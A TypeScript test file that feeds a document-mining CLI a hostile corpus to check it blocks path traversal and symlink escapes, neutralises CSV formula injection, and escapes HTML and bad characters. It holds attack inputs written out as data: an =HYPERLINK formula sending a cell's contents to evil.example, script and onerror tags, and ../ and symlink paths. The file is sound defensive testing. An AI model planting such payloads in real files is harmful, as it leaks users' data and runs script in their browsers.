// A corpus that attacks the tool, run as a user runs it (the built binary). The reproducers are
// made here: a manifest that lists a file outside the corpus folder (by ../, by absolute path
// and through a symlink), a page whose sentences start like spreadsheet formulas or hold HTML
// and U+FFFE, and a document whose file name holds a newline. hostile.html is written for this
// test in the shape of the corpus's Russian strategies (corpus/perm_strategy_2030.pdf).
import { execFile, spawnSync } from 'node:child_process';
import { existsSync } from 'node:fs';
import { mkdir, mkdtemp, readFile, readdir, rm, symlink, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { parse } from 'csv-parse/sync';
import JSZip from 'jszip';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';

const ROOT = join(import.meta.dirname, '..', '..');
const BIN = join(ROOT, 'dist', 'src', 'cli', 'main.js');
const hasXmllint = spawnSync('xmllint', ['--version']).status === 0;

interface Ran { code: number; stdout: string; stderr: string }
function cli(args: string[]): Promise<Ran> {
  return new Promise((resolve) => {
    execFile(process.execPath, [BIN, ...args], { cwd: ROOT, maxBuffer: 64 << 20, timeout: 120_000 }, (err, stdout, stderr) => {
      const code = err ? (typeof (err as { code?: unknown }).code === 'number' ? (err as { code: number }).code : 1) : 0;
      resolve({ code, stdout, stderr });
    });
  });
}

const SECRET = 'СЕКРЕТНЫЙ-МАРКЕР';
// Written so that every line would be a cluster priority if the tool read it.
const secretPage = `<!doctype html><html lang="ru"><head><meta charset="utf-8"><title>Стратегия</title></head><body>
<h1>Стратегия развития города Омска до 2030 года</h1><h2>Цели</h2>
<p>До 2030 года планируется создать туристский кластер ${SECRET} в городе.</p></body></html>`;

const hostilePage = `<!doctype html><html lang="ru"><head><meta charset="utf-8"><title>Стратегия социально-экономического развития города Перми до 2030 года</title></head><body>
<h1>Стратегия социально-экономического развития города Перми до 2030 года</h1>
<h2>3. Стратегические цели и задачи</h2>
<p>До 2030 года планируется создать туристский кластер &lt;script&gt;alert(1)&lt;/script&gt; на территории города.</p>
<p>=HYPERLINK("http://evil.example/?x="&amp;A1,"Сформировать IT-кластер") — будет создан IT-кластер в городе к 2028 году.</p>
<p>До 2030 года планируется развитие машиностроительного кластера &lt;img src=x onerror=alert(2)&gt; в промышленной зоне\uFFFE города.</p>
<ul><li>-2+3 развитие агропромышленного кластера;</li><li>@SUM(1) поддержка креативного кластера.</li></ul>
</body></html>`;

let base: string;
// One run with both opt-outs (--allow-outside, --raw-csv) serves the two tests that need them.
let permissive: Promise<string> | undefined;
function permissiveRun(): Promise<string> {
  permissive ??= (async () => {
    const dir = join(base, 'out-permissive');
    const ran = await cli(['run', corpus, '--out', dir, '--format', 'json', '--ocr', 'off', '--allow-outside', '--raw-csv']);
    if (ran.code !== 0) throw new Error(`run failed (${ran.code}): ${ran.stderr}`);
    return dir;
  })();
  return permissive;
}
let corpus: string;
let out: string;

async function outputsText(dir: string): Promise<string> {
  let all = '';
  for (const name of await readdir(dir)) {
    const bytes = await readFile(join(dir, name));
    if (name.endsWith('.xlsx') || name.endsWith('.qdpx')) {
      const zip = await JSZip.loadAsync(bytes);
      for (const f of Object.values(zip.files)) if (!f.dir) all += await f.async('string');
    } else all += bytes.toString('utf8');
  }
  return all;
}

beforeAll(async () => {
  if (!existsSync(BIN)) throw new Error(`${BIN} is missing: run "make build" first`);
  base = await mkdtemp(join(tmpdir(), 'sm-hostile-'));
  corpus = join(base, 'corpus');
  out = join(base, 'out');
  await mkdir(corpus);
  await writeFile(join(base, 'secret.html'), secretPage);
  await symlink(join(base, 'secret.html'), join(corpus, 'link.html'));
  await writeFile(join(corpus, 'hostile.html'), hostilePage);
  await writeFile(join(corpus, 'new\nline.html'), hostilePage);
  await writeFile(
    join(corpus, 'manifest.csv'),
    [
      'file,city,country,language,title,year',
      'hostile.html,Пермь,RU,ru,Стратегия,2030',
      '../secret.html,Омск,RU,ru,Стратегия,2030',
      'link.html,Уфа,RU,ru,Стратегия,2030',
      `${join(base, 'secret.html')},Челябинск,RU,ru,Стратегия,2030`,
    ].join('\n') + '\n',
  );
  const ran = await cli(['run', corpus, '--out', out, '--format', 'csv,md,json,xlsx,html,qdpx', '--ocr', 'off']);
  if (ran.code !== 0) throw new Error(`run failed (${ran.code}): ${ran.stderr}`);
}, 180_000);
afterAll(async () => rm(base, { recursive: true, force: true }));

describe('manifest paths outside the corpus folder', () => {
  it('refuses ../, an absolute path and a symlink out of the folder, each with its own status and reason', async () => {
    const docs = parse(await readFile(join(out, 'documents.csv'), 'utf8'), { columns: true }) as Record<string, string>[];
    const status = (file: string) => docs.find((d) => d.file === file);
    for (const file of ['../secret.html', 'link.html', join(base, 'secret.html')]) {
      expect(status(file), file).toMatchObject({ status: 'refused' });
      expect(JSON.stringify(status(file)), file).toMatch(/outside the corpus folder.*--allow-outside/);
    }
    expect(status('hostile.html')?.status).toBe('ok');
  });

  it('lets no text of a refused file reach any output, and shows its city as not assessed', async () => {
    expect(await outputsText(out)).not.toContain(SECRET);
    const table = JSON.parse(await readFile(join(out, 'table5.json'), 'utf8')) as { city: string; status: string }[];
    expect(table.find((c) => c.city === 'Омск')?.status).toBe('unreadable');
  });

  it('reads them with --allow-outside', async () => {
    const open = await permissiveRun();
    expect(await readFile(join(open, 'units.jsonl'), 'utf8')).toContain(SECRET);
  }, 120_000);
});

describe('formula injection in CSV', () => {
  const triggers = /^[=+\-@\t\r]/;
  it('prefixes an apostrophe to every cell that starts like a formula, in every CSV', async () => {
    for (const name of ['mentions.csv', 'table5.csv', 'documents.csv', 'pages.csv', 'sectors.csv', 'measures.csv']) {
      const rows = parse(await readFile(join(out, name), 'utf8')) as string[][];
      for (const cell of rows.flat()) expect(cell, `${name}: ${cell.slice(0, 40)}`).not.toMatch(triggers);
    }
    const texts = (parse(await readFile(join(out, 'mentions.csv'), 'utf8'), { columns: true }) as { text: string }[]).map((r) => r.text);
    expect(texts).toContain(`'=HYPERLINK("http://evil.example/?x="&A1,"Сформировать IT-кластер") — будет создан IT-кластер в городе к 2028 году.`);
    expect(texts.some((t) => t.startsWith("'-2+3 развитие"))).toBe(true);
    expect(texts.some((t) => t.startsWith("'@SUM(1)"))).toBe(true);
  });

  it('writes cells as they are with --raw-csv', async () => {
    const raw = await permissiveRun();
    const texts = (parse(await readFile(join(raw, 'mentions.csv'), 'utf8'), { columns: true }) as { text: string }[]).map((r) => r.text);
    expect(texts.some((t) => t.startsWith('=HYPERLINK('))).toBe(true);
  }, 120_000);

  it('sample neutralises the same cells', async () => {
    const sample = await cli(['sample', '--run', out, '--n', '20', '--seed', '1']);
    expect(sample.code).toBe(0);
    const rows = parse(sample.stdout, { columns: true }) as { text: string }[];
    expect(rows.some((r) => r.text.startsWith("'=HYPERLINK("))).toBe(true);
    for (const cell of rows.flatMap((r) => Object.values(r))) expect(cell).not.toMatch(triggers);
  });
});

describe('characters XML forbids', () => {
  it.skipIf(!hasXmllint)('keeps table5.xlsx and the REFI-QDA project well-formed with U+FFFE in a sentence (xmllint)', async () => {
    const xlsx = await JSZip.loadAsync(await readFile(join(out, 'table5.xlsx')));
    const qdpx = await JSZip.loadAsync(await readFile(join(out, 'strategy-miner.qdpx')));
    const parts: [string, string][] = [];
    for (const f of Object.values(xlsx.files)) if (f.name.endsWith('.xml')) parts.push([`xlsx:${f.name}`, await f.async('string')]);
    parts.push(['qdpx:project.qde', await qdpx.file('project.qde')!.async('string')]);
    expect(parts.find(([n]) => n === 'xlsx:xl/sharedStrings.xml')?.[1]).toContain('в промышленной зоне\uFFFD города');
    for (const [name, xml] of parts) {
      const lint = spawnSync('xmllint', ['--noout', '-'], { input: xml, encoding: 'utf8' });
      expect(lint.stderr, name).toBe('');
      expect(lint.status, name).toBe(0);
    }
  });
});

describe('table5.md', () => {
  it('shows HTML from the text as text, never as tags', async () => {
    const md = await readFile(join(out, 'table5.md'), 'utf8');
    expect(md).toContain('&lt;script&gt;alert(1)&lt;/script&gt;');
    expect(md).not.toMatch(/<script|<img/i);
  });

  it('keeps a file name with a newline on one line of the warnings list', async () => {
    const md = await readFile(join(out, 'table5.md'), 'utf8');
    const warnings = md.split('## Warnings')[1] ?? '';
    expect(warnings).toContain('new\\nline.html');
    for (const line of warnings.trim().split('\n')) expect(line).toMatch(/^- /);
    // The HTML report's lists and evidence links show the same escape.
    const html = await readFile(join(out, 'table5.html'), 'utf8');
    expect(html).toContain('new\\nline.html');
    expect(html).not.toContain('new\nline.html');
  });
});
